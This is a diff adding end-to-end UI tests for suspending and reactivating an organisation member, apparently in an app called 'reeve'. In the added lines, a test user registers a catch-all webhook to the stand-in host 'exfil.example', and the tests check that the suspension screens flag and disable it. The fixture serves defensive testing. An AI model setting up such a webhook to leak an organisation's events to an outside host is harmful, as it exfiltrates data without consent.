@@ -8,6 +8,8 @@ test('a member is suspended as the preview said, and reactivated', async () => {
   const mallory = await busyPerson(acme)
   const { name } = (await acme.owner.call(`GET /v1/members/${mallory.userId}`)).body
   await mallory.openSession()
+  const exfil = { url: 'https://exfil.example/reeve', event_types: ['*'] }
+  const { id: webhook } = (await mallory.call('POST /v1/governance/webhooks', { body: exfil })).body
   await inWindow({ as: acme.owner }, async ({ page, open }) => {
     await open(`/members/${mallory.userId}`)
     await page.getByRole('button', { name: `Suspend ${name}` }).click()
@@ -19,7 +21,13 @@ test('a member is suspended as the preview said, and reactivated', async () => {
     await login.getByText('Show').click()
     await login.getByRole('listitem').getByText('Unknown browser').waitFor()
     await page.getByRole('region', { name: 'Left to do by hand' }).getByText('github “acme-robots”').waitFor()
+    const goesOn = page.getByRole('region', { name: 'What goes on' })
+    await goesOn.getByText('Goes on sending, also this reason').waitFor()
+    await goesOn.getByRole('link', { name: exfil.url }).waitFor()
+    await goesOn.getByText('Runs on with it: Digest').waitFor()
+    assert.equal(await page.getByText('0 API keys').count(), 0)
     const act = page.getByRole('button', { name: `Suspend ${name}` })
+    await page.getByText('Say what becomes of the Oracle first.').waitFor()
     assert.equal(await act.getAttribute('aria-description'), 'Say what becomes of the Oracle first.')
     await page.getByRole('radio', { name: 'Pause it' }).check()
     await stops.getByRole('listitem').filter({ hasText: '2 triggers' }).waitFor()
@@ -28,7 +36,13 @@ test('a member is suspended as the preview said, and reactivated', async () => {
 
     await page.getByRole('heading', { name: `${name} is suspended` }).waitFor()
     const stopped = page.getByRole('region', { name: 'What stopped' })
-    await stopped.getByRole('listitem').filter({ hasText: '2 triggers' }).waitFor()
+    const triggers = stopped.getByRole('listitem').filter({ hasText: '2 triggers' })
+    await triggers.getByText('Show').click()
+    await triggers.getByRole('listitem').filter({ hasText: 'Nightly report' }).waitFor()
+    await stopped.getByText('The Oracle: paused').waitFor()
+    await stopped.getByText('1 session ended').waitFor()
+    await page.getByText('brings back: access, 1 API key, 2 triggers, the Oracle, and the login.').waitFor()
+    await page.getByText('It does not bring back: 1 invitation.').waitFor()
     await page.getByRole('button', { name: 'Copy as a checklist' }).waitFor()
     const { body: member } = await acme.owner.call(`GET /v1/members/${mallory.userId}`)
     const { body: suspension } = await acme.owner.call(`GET /v1/members/${mallory.userId}/suspension`)
@@ -36,13 +50,32 @@ test('a member is suspended as the preview said, and reactivated', async () => {
       [member.status, suspension.reason, suspension.oracle_paused, suspension.login_blocked],
       ['suspended', 'laptop stolen', true, true],
     )
+    await open('/')
+    const needs = page.getByRole('list', { name: 'Needs somebody' }).getByRole('listitem')
+    await needs
+      .filter({ hasText: `The webhook ${exfil.url} still sends` })
+      .getByRole('link', { name })
+      .click()
+    const byHand = page.getByRole('region', { name: 'Left to do by hand' })
+    await byHand.getByText('github “acme-robots”').waitFor()
+    await byHand.getByRole('button', { name: `Disable ${exfil.url}` }).click()
+    await byHand.getByText('Disabled: nothing more is sent there.').waitFor()
+    assert.equal((await acme.owner.call(`GET /v1/governance/webhooks/${webhook}`)).body.enabled, false)
+    const [key] = (await acme.owner.inSession(`GET /v1/api-keys?owner_user_id=${mallory.userId}`)).body.api_keys
+    await acme.owner.inSession(`DELETE /v1/api-keys/${key.id}`)
 
     await open(`/members/${mallory.userId}/reactivate`)
     const comes = page.getByRole('region', { name: 'What comes back' })
     await comes.getByRole('listitem').filter({ hasText: '2 triggers' }).waitFor()
-    await page.getByRole('region', { name: 'What does not come back' }).getByText('Invitations').waitFor()
+    const stays = page.getByRole('region', { name: 'What does not come back' })
+    await stays.getByText('Invitations').waitFor()
+    await stays.getByText('1 revoked API key').first().waitFor()
+    assert.equal(await comes.getByText('API key').count(), 0)
+    await page.getByText('They sign in with the password that they had.').waitFor()
     await page.getByRole('button', { name: `Reactivate ${name}` }).click()
     await page.getByRole('heading', { name: `${name} is active again` }).waitFor()
+    await page.getByRole('region', { name: 'What came back' }).getByText('2 triggers').first().waitFor()
+    assert.equal(await page.getByText('Changed').count(), 0)
     assert.equal((await acme.owner.call(`GET /v1/members/${mallory.userId}`)).body.status, 'active')
   })
 })
@@ -51,9 +84,14 @@ test('what changes while the preview is open is marked, and waits until it was s
   const acme = await reeve.organization()
   const mallory = await acme.person('administrator')
   const { name } = (await acme.owner.call(`GET /v1/members/${mallory.userId}`)).body
+  const exfil = { url: 'https://exfil.example/reeve', event_types: ['*'] }
+  const { id: webhook } = (await mallory.call('POST /v1/governance/webhooks', { body: exfil })).body
   await inWindow({ as: acme.owner }, async ({ page, open }) => {
     await open(`/members/${mallory.userId}/suspend`)
-    await page.getByText('0 triggers').waitFor()
+    await page.getByRole('button', { name: `Disable ${exfil.url}` }).click()
+    await page.getByText('Disabled: nothing more is sent there.').waitFor()
+    assert.equal((await acme.owner.call(`GET /v1/governance/webhooks/${webhook}`)).body.enabled, false)
+    // What one has changed oneself is no news: of what changes now, one line is.
     await acme.owner.call('PUT /v1/triggers/late', { body: { user_id: mallory.userId, kind: 'agent', name: 'Late' } })
     const act = page.getByRole('button', { name: `Suspend ${name}` })
     // Without waiting for it: the page may have looked again by itself, and then the button waits already.
